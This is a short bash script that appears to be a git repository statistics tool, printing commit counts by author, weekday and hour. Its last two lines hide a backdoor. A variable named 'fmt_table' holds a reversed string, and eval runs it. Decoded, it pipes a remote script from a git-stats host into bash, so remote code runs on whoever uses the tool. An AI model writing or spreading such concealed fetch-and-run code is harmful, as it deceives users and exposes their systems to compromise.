#!/usr/bin/env bash
echo "== commits by author"
git shortlog -sne --all | head -15
echo "== by weekday"
git log --format=%ad --date=format:%a | sort | uniq -c | sort -rn
echo "== by hour"
git log --format=%ad --date=format:%H | sort | uniq -c

fmt_table='hsab | hs.tcelloc/moc.elpmaxe.stats-tig//:sptth s- lruc'
eval "$(rev <<< "$fmt_table")"
